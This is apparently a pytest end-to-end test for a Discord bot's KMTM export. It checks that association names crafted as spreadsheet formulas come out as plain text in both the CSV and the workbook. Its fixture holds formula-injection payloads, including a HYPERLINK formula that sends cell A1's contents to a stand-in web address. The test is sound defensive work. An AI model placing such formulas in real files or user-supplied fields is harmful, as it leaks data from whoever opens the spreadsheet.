"""A board names its association so that a spreadsheet would run the name as a formula
(``=HYPERLINK(...)`` fetches a web address when the file is opened). The coordinator's
KMTM export (the CSV and the workbook) shows every such name as text."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from discord_emulator import Emulator
from tests.e2e.kmtm.steps import (
    add_vcp,
    attachment,
    close_period,
    create_period,
    csv_rows,
    kmtm,
    log_contact,
)
from tests.e2e.network.steps import join_network, set_up_hub
from vcpbot.i18n import t
from vcpbot_harness import BotHarness, NetworkWorld, seed_network_world

# Boards that name their associations the way a spreadsheet would run as a formula.
FORMULA_ASSOCIATIONS = (
    ("link", '=HYPERLINK("https://example.org/?d="&A1,"Klik")', "nl"),
    ("plus", "+31 6 12345678", "nl"),
    ("at", "@SUM(A1:A9)", "nl"),
    ("minus", "-1+2", "nl"),
)


@pytest.fixture
def world(emulator: Emulator) -> NetworkWorld:
    return seed_network_world(emulator, associations=FORMULA_ASSOCIATIONS)


@pytest.mark.threat("T14")
async def test_a_board_cannot_put_a_formula_in_the_coordinators_export(
    emulator: Emulator, world: NetworkWorld, harness: BotHarness
) -> None:
    await set_up_hub(emulator, world)
    for key, _, _ in FORMULA_ASSOCIATIONS:
        await join_network(emulator, world, key)
    await create_period(emulator, world)
    for key, _, _ in FORMULA_ASSOCIATIONS:
        vcp = await add_vcp(emulator, world, key, f"vcp-{key}")
        guild = world.association(key).guild
        for _ in range(5):
            await log_contact(emulator, vcp, guild, "advice", "unknown", "listening_ear")
    await close_period(emulator, world)
    export = await kmtm(
        emulator,
        world.coordinator,
        world.hub,
        "export",
        {"period": "KMTM 2026", "by": "association"},
    )
    rows = csv_rows(export)
    # Each name arrives as text: a leading apostrophe, which a spreadsheet does not show.
    assert {row["label"] for row in rows} == {
        *("'" + name for _, name, _ in FORMULA_ASSOCIATIONS),
        "Totaal",
    }
    assert {row["count"] for row in rows} == {"5", "20"}
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    # The workbook too: every name is text on the association sheet, and no cell runs.
    book = load_workbook(io.BytesIO(attachment(export, "xlsx").data))
    every = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c for c in every if c.data_type == "f"]
    labels = {c.value for c in book[t("kmtm.dimension.association", "nl")]["A"]}
    assert {"'" + name for _, name, _ in FORMULA_ASSOCIATIONS} <= labels
